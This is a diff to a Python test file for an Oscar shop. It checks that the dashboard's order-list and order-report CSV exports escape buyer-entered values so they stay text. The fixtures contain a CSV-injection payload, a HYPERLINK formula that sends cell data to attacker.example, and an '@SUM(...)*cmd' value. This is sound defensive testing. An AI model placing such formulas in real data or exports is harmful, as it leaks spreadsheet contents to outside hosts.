@@ -1,5 +1,6 @@
 """Oscar's dashboard CSV exports (the order list, the reports) write what buyers typed: a name or an email a
 spreadsheet would run as a formula is written as text (issue 17, finding 13, Oscar's own exports)."""
+
 import csv
 import io
 
@@ -19,11 +20,13 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
 def order_with_formulas():
     order = Order.objects.exclude(shipping_address=None).order_by("pk").first()
     assert order is not None, "the demo has orders"
-    buyer = get_user_model().objects.create_user(email="mua@example.vn", password="mat-khau-2026",
-                                                 first_name=FORMULA, last_name="")
+    buyer = get_user_model().objects.create_user(
+        email="mua@example.vn", password="mat-khau-2026", first_name=FORMULA, last_name=""
+    )
     Order.objects.filter(pk=order.pk).update(user=buyer, guest_email="")
     order.shipping_address.__class__.objects.filter(pk=order.shipping_address_id).update(
-        first_name="@SUM(1+1)*cmd", last_name="")
+        first_name="@SUM(1+1)*cmd", last_name=""
+    )
     return Order.objects.get(pk=order.pk)
 
 
@@ -47,8 +50,12 @@ def test_the_order_list_csv_writes_formulas_as_text(client, order_with_formulas)
 def test_the_order_report_csv_writes_formulas_as_text(client, order_with_formulas):
     _admin(client)
     day = order_with_formulas.date_placed.date().isoformat()
-    rows = _rows(client.get(reverse("dashboard:reports-index"), {
-        "report_type": "order_report", "date_from": day, "date_to": day, "download": "true"}))
+    rows = _rows(
+        client.get(
+            reverse("dashboard:reports-index"),
+            {"report_type": "order_report", "date_from": day, "date_to": day, "download": "true"},
+        )
+    )
     cells = [cell for row in rows for cell in row]
     assert "'" + FORMULA in cells
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
